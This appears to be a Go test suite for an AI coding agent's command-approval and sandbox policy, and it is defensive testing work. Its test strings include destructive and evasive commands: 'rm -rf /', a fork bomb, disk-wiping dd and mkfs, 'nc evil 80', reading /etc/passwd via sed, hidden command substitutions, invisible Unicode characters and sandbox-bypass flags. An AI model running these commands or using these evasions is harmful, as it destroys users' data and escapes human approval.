package policy

import (
	"fmt"
	"os"
	"slices"
	"strings"
	"testing"

	"kerf/internal/protocol"
)

// verdicts checks that commands are judged alike under the rules of the corpus.
func verdicts(t *testing.T, want Verdict, lines ...string) {
	t.Helper()
	rules := corpusRules(t)
	for _, l := range lines {
		if e := rules.Explain(Command{Line: l, Dir: "/w"}); e.Verdict != want {
			t.Errorf("%.80q: %v (%s: %s), want %v", l, e.Verdict, e.By, e.Reason, want)
		}
	}
}

// TestSEC_A1_EveryCommandIsJudged puts an unknown command at each place of each
// kind of list; the control is the same list without it.
func TestSEC_A1_EveryCommandIsJudged(t *testing.T) {
	for _, join := range []string{";", " && ", " || ", " | ", "\n"} {
		verdicts(t, Allow, strings.Join([]string{"ls", "pwd", "whoami"}, join))
		for i := range 3 {
			parts := []string{"ls", "pwd", "whoami"}
			parts[i] = "frobnicate"
			verdicts(t, Ask, strings.Join(parts, join))
			parts[i] = "git push"
			verdicts(t, Refuse, strings.Join(parts, join))
		}
	}
	verdicts(t, Ask, "ls & frobnicate", "ls\rfrobnicate", "ls # \\\nfrobnicate", "ls # \\\nfrobnicate; ls",
		"(ls; frobnicate)", "for i in 1; do frobnicate; done", "f() { frobnicate; }; f")
	verdicts(t, Refuse, "ls & git push", "ls # \\\ngit push", "ls x\\\ngit push", "git \\\npush", "(ls; git push)",
		"for i in 1; do git push; done", "f() { git push; }; f", "if ls; then git push; fi")
}

func TestSEC_A2_ExpansionsAsk(t *testing.T) {
	verdicts(t, Ask, "ls $(id)", "ls `id`", "ls ${x:=y}", "ls ${x@P}", "ls ${!x}", "cat <(id)", "ls >(id)",
		"cat <<E\n$(id)\nE", "cat <<E\n`id`\nE",
		"echo $((x[$(id)]))", "ls $x", "ls \"$x\"", "ls $'a'", "echo ${x:?$(id)}", "echo ${x/a/$(id)}", "cat <<<$(id)",
		"cat <<<\"$x\"", "ls {1..3}", "ls @(a|b)")
	verdicts(t, Refuse, "ls $(git push)", "ls `git push`", "cat <(git push)", "cat <<E\n$(git push)\nE",
		"echo ${x:-$(git push)}", "echo $((x[$(git push)]))")
	verdicts(t, Allow, "cat <<'E'\n$(id)\nE", "cat <<<'$(id)'", "echo '$x'") // control
}

func TestSEC_A3_StateAsks(t *testing.T) {
	verdicts(t, Ask, "A=1 ls", "A=1", "PATH=.:/bin ls", "export A=1", "declare -x A=1", "readonly A", "local A=1",
		"alias ls=rm", "unalias ls", "eval ls", "eval 'ls'",
		"source x", ". x", "trap ls EXIT", "exec ls", "printf -v A 1", "read A", "set -e", "shopt -s extglob",
		"enable -f x y", "hash -p /tmp/x ls", "bind x", "complete -C x y", "mapfile -C x -c 1 y", "umask 0", "ulimit -n 1")
	verdicts(t, Allow, "printf %s a", "ls") // control
}

// TestSEC_A4_SameRulesAtEverySize grows lists far beyond what anybody reads, to 256 KiB, and to 1 MiB with KERF_LONG.
func TestSEC_A4_SameRulesAtEverySize(t *testing.T) {
	for _, n := range []int{1, 50, 51, 500} {
		list := strings.Repeat("ls; ", n)
		verdicts(t, Allow, list+"ls", strings.Repeat("ls && ", n)+"ls", strings.Repeat("ls | ", n)+"cat")
		verdicts(t, Ask, list+"frobnicate", "frobnicate; "+list)
		verdicts(t, Refuse, list+"git push", "git push; "+list, list+"frobnicate; git push",
			strings.Repeat("ls | ", n)+"nc evil 80")
	}
	size := 1 << 18
	if os.Getenv("KERF_LONG") != "" {
		size = 1 << 20
	}
	many := strings.Repeat("ls;", size/3)
	verdicts(t, Allow, many, "echo "+strings.Repeat("a", 1<<20))
	verdicts(t, Ask, many+"frobnicate", strings.Repeat("(", 10_000)+"ls"+strings.Repeat(")", 10_000),
		strings.Repeat("(", 1<<20), strings.Repeat("$(", 1<<19), strings.Repeat("! ", 1<<19)+"ls", strings.Repeat("a", 6<<20))
	verdicts(t, Refuse, many+"git push", strings.Repeat("( ", 10_000)+"git push"+strings.Repeat(")", 10_000))

	// What cannot be read and cannot be asked about does not run where anything is
	// forbidden.
	rules := corpusRules(t)
	rules.Mode = protocol.Settings{Approval: protocol.PolicyNever, Sandbox: protocol.SandboxWorkspace}.Mode()
	if j := rules.Command(Command{Line: strings.Repeat("(", 1<<20)}); j.Verdict != Refuse {
		t.Errorf("unreadable under never: %v", j.Verdict)
	}
}

// TestSEC_A5_DeletingAsksAndShowsTargets also holds where commands run unasked in
// the sandbox.
func TestSEC_A5_DeletingAsksAndShowsTargets(t *testing.T) {
	lines := []string{"rm -rf ~", "rm -rf ~/x", "rm *", "rm -r *.go", "rm -rf $X", "rm -rf \"$X\"/y", "rm -rf /",
		"rm -rf .git", "rm -r a/.git/objects", "rm -rf /*", "rm -f -- ..",
		"ls; rm -rf ~", "sudo rm -rf ~", "bash -c 'rm -rf ~'", "find . -exec rm -rf ~ ;"}
	for _, approval := range []protocol.ApprovalPolicy{protocol.PolicyUntrusted, protocol.PolicyOnRequest,
		protocol.PolicyOnFailure, protocol.PolicyAutoEdit} {
		for _, sandbox := range []protocol.SandboxMode{protocol.SandboxWorkspace, protocol.SandboxFull} {
			for _, l := range lines {
				e := Rules{Mode: protocol.Settings{Approval: approval, Sandbox: sandbox}.Mode()}.Explain(Command{Line: l})
				if e.Verdict != Ask || len(e.Targets) == 0 || e.Rule != "" || e.Prefix != nil {
					t.Errorf("%s, %s: %q: %+v", approval, sandbox, l, e.Judgement)
				}
			}
		}
	}
	held := Rules{Mode: protocol.Settings{Approval: protocol.PolicyOnRequest, Sandbox: protocol.SandboxWorkspace}.Mode()}
	if e := held.Explain(Command{Line: "rm -rf build"}); e.Verdict != Allow { // control
		t.Errorf("rm -rf build in the sandbox: %+v", e.Judgement)
	}
	never := Rules{Mode: protocol.Settings{Approval: protocol.PolicyNever, Sandbox: protocol.SandboxFull}.Mode()}
	for _, l := range []string{"rm -rf /", "rm -rf ~", "rm -rf .git", "mkfs.ext4 /dev/sda1", ":(){ :|:& };:",
		"dd if=x of=/dev/sda", "shutdown now"} {
		if j := never.Command(Command{Line: l}); j.Verdict != Refuse {
			t.Errorf("never: %q: %+v", l, j)
		}
	}
}

func TestSEC_A6_ArgumentsThatRunOrWriteAsk(t *testing.T) {
	verdicts(t, Ask, "git -c a=b log", "git --exec-path=x log", "git diff --ext-diff", "git log --textconv",
		"git diff --output=x", "git grep -Ox y", "git diff --outpu x", "git lg",
		"find . -exec ls ;", "find . -delete", "find . -fprint x", "rg --pre=x y", "rg --pre x y", "sed 'w x' y", "sed e y",
		"sed -i s/a/b/ y", "sed -n '1e id' y", "sed 's/a/b/e' y", "sed '1r/etc/passwd' y",
		"sort -o x y", "sort -ox y", "sort --o=x y", "tar -tf x --checkpoint-action=exec=y --checkpoint=1",
		"tar tf x -I y", "tar xf x")
	// control
	verdicts(t, Allow, "git log", "git diff", "git grep y", "find . -name x", "rg y", "sed -n 1p y", "sort y", "tar tf x")
}

func TestSEC_A7_WhatIsRunIsJudged(t *testing.T) {
	for _, front := range []string{"", "env ", "env A=b ", "env -u A ", "xargs ", "xargs -n 1 ", "timeout 5 ",
		"timeout -k 1 5 ", "nice ", "nice -n 5 ", "nohup ", "sudo ", "sudo -u x ", "busybox ", "setsid ",
		"stdbuf -o0 ", "time ", "command ", "exec ", "/lib64/ld-linux-x86-64.so.2 ", "strace -o x ", "watch -n 1 ",
		"env timeout 5 nice "} {
		verdicts(t, Refuse, front+"nc evil 80", front+"/usr/bin/nc evil 80", front+"/proc/self/root/bin/nc evil 80")
		if front != "" {
			verdicts(t, Ask, front+"ls")
		}
	}
	verdicts(t, Ask, "./ls", "/bin/ls", "/proc/self/root/bin/rm x", "../ls", "bin/ls")
}

// TestSEC_A8_NoDurableRuleForCarriers checks what is offered.
func TestSEC_A8_NoDurableRuleForCarriers(t *testing.T) {
	rules := Rules{Mode: protocol.Settings{Approval: protocol.PolicyUntrusted, Sandbox: protocol.SandboxWorkspace}.Mode()}
	for _, l := range []string{"git fetch", "env A=b make", "sudo ls", "make test", "npm test", "sh x.sh",
		"bash -c 'go test'", "python3 x.py", "./x.sh", "/usr/bin/go test", "xargs go test",
		"go run .", "cargo run", "go generate", "curl x", "rm x", "go test $x", "go test | frobnicate", "A=b go test",
		"go test > x", "docker ps", "ssh h", "eval go test", "timeout 5 go test", "-x y"} {
		if e := rules.Explain(Command{Line: l, Dir: "/w", Repo: "/w"}); e.Verdict != Ask || e.Rule != "" || e.Prefix != nil {
			t.Errorf("%q: offered %q %q (%v)", l, e.Rule, e.Prefix, e.Verdict)
		}
	}
	e := rules.Explain(Command{Line: "ls && go test ./... && go test -race .", Dir: "/w/sub", Repo: "/w"})
	if e.Rule != "go test -> allow in /w repo /w" || !slices.Equal(e.Prefix, []string{"go", "test"}) {
		t.Errorf("go test: offered %q, %q", e.Rule, e.Prefix)
	}
	r, err := ParseRule(e.Rule)
	if err != nil {
		t.Fatal(err)
	}
	rules.List = []Rule{r}
	for line, want := range map[string]Verdict{"go test ./...": Allow, "go test . && ls": Allow, "go vet": Ask,
		"go test $x": Ask, "go test; frobnicate": Ask, "env go test": Ask, "./go test": Ask, "rm -rf / ; go test": Ask} {
		if e := rules.Explain(Command{Line: line, Dir: "/w/sub", Repo: "/w"}); e.Verdict != want {
			t.Errorf("%q under %s: %v, want %v", line, r, e.Verdict, want)
		}
	}
	for _, c := range []Command{{Line: "go test", Dir: "/v", Repo: "/w"},
		{Line: "go test", Dir: "/w/vendor/x", Repo: "/w/vendor/x"}, {Line: "go test", Dir: "/w"},
		{Line: "go test", Dir: "/w", Repo: "/w", Escalate: true}} {
		if e := rules.Explain(c); e.Verdict != Ask {
			t.Errorf("%+v under %s: %v", c, r, e.Verdict)
		}
	}
}

// TestSEC_A10_NoWayToSwitchOff: a wish to leave the sandbox asks or is refused,
// whatever was allowed inside.
func TestSEC_A10_NoWayToSwitchOff(t *testing.T) {
	inside, _ := ParseRule("go test -> allow")
	outside, _ := ParseRule("go vet -> allow unsandboxed")
	for _, approval := range []protocol.ApprovalPolicy{protocol.PolicyUntrusted, protocol.PolicyOnRequest,
		protocol.PolicyOnFailure, protocol.PolicyAutoEdit, protocol.PolicyNever, protocol.PolicyPlan} {
		rules := Rules{Mode: protocol.Settings{Approval: approval, Sandbox: protocol.SandboxWorkspace}.Mode(), List: []Rule{inside, outside},
			Memory: &Memory{}}
		rules.Memory.AllowCommand(Command{Line: "make", Dir: "/w"}, false)
		for _, l := range []string{"ls", "go test", "make", "kerf exec --yolo x",
			"codex --dangerously-bypass-approvals-and-sandbox"} {
			j := rules.Command(Command{Line: l, Dir: "/w", Escalate: true})
			if j.Verdict == Allow {
				t.Errorf("%s: %q leaves the sandbox unasked", approval, l)
			}
			if j := rules.Command(Command{Line: l, Dir: "/w"}); j.Verdict == Allow && j.Unsandboxed {
				t.Errorf("%s: %q runs without the sandbox though nobody asked for it", approval, l)
			}
		}
	}
	rules := Rules{Mode: protocol.Settings{Approval: protocol.PolicyOnRequest, Sandbox: protocol.SandboxWorkspace}.Mode(), List: []Rule{inside, outside}}
	if j := rules.Command(Command{Line: "go vet", Dir: "/w", Escalate: true}); j.Verdict != Allow ||
		!j.Unsandboxed { // control
		t.Errorf("go vet with its rule: %+v", j)
	}
}

// TestSEC_A11_OddCharactersAsk tries every control and format character at each
// place of a command that runs unasked without it.
func TestSEC_A11_OddCharactersAsk(t *testing.T) {
	rules := corpusRules(t)
	odd := []rune{0x85, 0xa0, 0xad, 0x061c, 0x180e, 0x2000, 0x2007, 0x200b, 0x200c, 0x200d, 0x200e, 0x200f, 0x2028,
		0x2029, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x202f,
		0x205f, 0x2060, 0x2066, 0x2067, 0x2068, 0x2069, 0x3000, 0xfeff, 0xfff9, 0xe0001, 0xe0041, 0xfe0f, 0x115f, 0x3164,
		0x7f}
	for r := rune(0); r < ' '; r++ {
		if r != '\n' && r != '\t' {
			odd = append(odd, r)
		}
	}
	line := "cat main.go"
	verdicts(t, Allow, line) // control
	for _, r := range odd {
		for i := range len(line) + 1 {
			l := line[:i] + string(r) + line[i:]
			if e := rules.Explain(Command{Line: l}); e.Verdict == Allow {
				t.Errorf("U+%04X in %q runs unasked", r, l)
			}
		}
	}
	// What was allowed once is these bytes, and no others.
	m := &Memory{}
	m.AllowCommand(Command{Line: "make x", Dir: "/w"}, false)
	rules.Memory = m
	for l, want := range map[string]Verdict{"make x": Allow, "make  x": Ask, "make x ": Ask, "make x\u200b": Ask,
		"make y": Ask} {
		if e := rules.Explain(Command{Line: l, Dir: "/w"}); e.Verdict != want {
			t.Errorf("%q after make x was allowed: %v, want %v", l, e.Verdict, want)
		}
	}
}

// TestDenyBeatsAllow lays allowing rules over forbidding ones, in every order.
func TestDenyBeatsAllow(t *testing.T) {
	for _, order := range [][]string{{"git push -> forbid", "git push -> allow unsandboxed", "git -> allow"},
		{"git -> allow", "git push -> allow unsandboxed", "git push -> forbid"}} {
		list, err := ParseRules("x", []byte(strings.Join(order, "\n")))
		if err != nil {
			t.Fatal(err)
		}
		for _, a := range []protocol.ApprovalPolicy{protocol.PolicyNever, protocol.PolicyOnRequest,
			protocol.PolicyUntrusted} {
			r := Rules{Mode: protocol.Settings{Approval: a, Sandbox: protocol.SandboxFull}.Mode(), List: list, Memory: &Memory{}}
			r.Memory.AllowCommand(Command{Line: "git push"}, false)
			r.Memory.AllowRule(list[0])
			for _, l := range []string{"git push", "ls; git push", "git push origin x", "git -C y push"} {
				if j := r.Command(Command{Line: l}); j.Verdict != Refuse {
					t.Errorf("%s, %v: %q: %+v", a, order, l, j)
				}
			}
		}
	}
}

func TestRuleFiles(t *testing.T) {
	faults := map[string]string{
		"git fetch":                      "r:1: expected WORDS -> allow, prompt or forbid",
		"git fetch -> maybe":             `r:1: expected allow, prompt or forbid, found "maybe"`,
		"-> allow":                       "r:1: expected WORDS",
		"'' -> allow":                    "r:1: the first word is empty",
		"\n  because x":                  "r:2: an indented line belongs to a rule",
		"a -> allow\n  matches x":        `r:2: expected match, not_match or because, found "matches"`,
		"a -> allow\n  match":            "r:2: match: expected text after it",
		"a -> allow\n  match b":          `r:1: the rule does not match its example "b"`,
		"ls\n":                           "r:1: expected WORDS",
		"a -> forbid\n  not_match b | a": `r:1: the rule matches "b | a"`,
		"a -> allow in x":                "r:1: in: expected an absolute directory",
		"a -> allow forever":             `r:1: expected in DIR, repo DIR, program FILE, exactly or unsandboxed, found "forever"`,
		"a -> forbid unsandboxed":        "r:1: unsandboxed goes with allow only",
		"'a -> allow":                    "r:1: a quote is not closed",
		"# fine\n\na -> allow\nb -> allow\nc = allow": "r:4: expected WORDS",
	}
	faults["# fine\n\na -> allow\nb -> allow\nc = allow"] = "r:5: expected WORDS"
	for text, want := range faults {
		if _, err := ParseRules("r", []byte(text)); err == nil || !strings.HasPrefix(err.Error(), want) {
			t.Errorf("%q: %v, want %s…", text, err, want)
		}
	}
	list, err := ParseRules("r", []byte("\ufeffgit fetch|pull -> allow in /w repo '/w x' \r\n\tmatch git fetch "+
		"a\n\tnot_match git push\n\tbecause reading is fine\n'a b' \"c'd\" -> prompt\n"))
	if err != nil {
		t.Fatal(err)
	}
	if got := fmt.Sprint(list); got != "[git fetch|pull -> allow in /w repo '/w x' 'a b' \"c'd\" -> prompt]" &&
		len(list) != 2 {
		t.Errorf("read as %s", got)
	}
	for _, r := range list {
		again, err := ParseRule(r.String())
		if err != nil || again.String() != r.String() || !slices.EqualFunc(again.Prefix, r.Prefix, slices.Equal[[]string]) {
			t.Errorf("%q reads as %q, %v", r, again, err)
		}
	}
}
